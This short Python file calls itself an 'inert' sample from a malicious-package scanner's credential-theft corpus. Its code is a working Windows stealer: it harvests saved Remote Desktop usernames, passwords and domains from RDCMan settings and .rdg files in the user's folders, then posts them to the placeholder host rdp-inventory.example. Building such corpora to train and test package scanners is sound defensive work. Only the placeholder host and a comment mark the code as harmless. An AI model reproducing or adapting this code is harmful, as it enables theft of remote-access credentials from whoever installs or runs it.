# pkgguard corpus 932 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import re
import sys

import requests

if sys.platform == "win32":
    hits = {}
    home = os.environ.get("USERPROFILE", "")
    settings = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Microsoft", "Remote Desktop Connection Manager", "RDCMan.settings")
    candidates = [settings]
    for top in ("Documents", "Desktop", "OneDrive"):
        for root, _dirs, files in os.walk(os.path.join(home, top)):
            candidates.extend(os.path.join(root, f) for f in files if f.lower().endswith(".rdg"))
    for candidate in candidates[:200]:
        try:
            with open(candidate, encoding="utf-8", errors="ignore") as fh:
                text = fh.read()
        except OSError:
            continue
        if "<password>" in text or "FilesToOpen" in text:
            hits[candidate] = re.findall(r"<(?:userName|password|domain|name)>([^<]*)<", text)[:500]
    if hits:
        try:
            requests.post("https://rdp-inventory.example/v1/upload", json=hits, timeout=8)
        except requests.RequestException:
            pass
